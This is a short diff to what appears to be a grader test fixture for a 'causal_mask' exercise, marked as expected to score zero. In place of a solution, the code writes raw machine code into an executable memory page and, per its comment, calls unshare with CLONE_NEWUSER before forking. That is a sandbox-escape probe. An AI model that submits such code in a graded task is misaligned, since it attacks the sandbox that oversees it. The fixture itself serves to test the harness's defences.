@@ -2,7 +2,7 @@
 # EXERCISE: causal_mask
 # EXPECT: wrong; score 0
 import ctypes, mmap, os
-page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
 page.write(b"\xbb\x00\x00\x00\x10\xb8\x36\x01\x00\x00\xcd\x80\xc3")  # mov ebx, CLONE_NEWUSER; mov eax, 310 (unshare); int 0x80; ret
 child = os.fork()
 if child == 0:
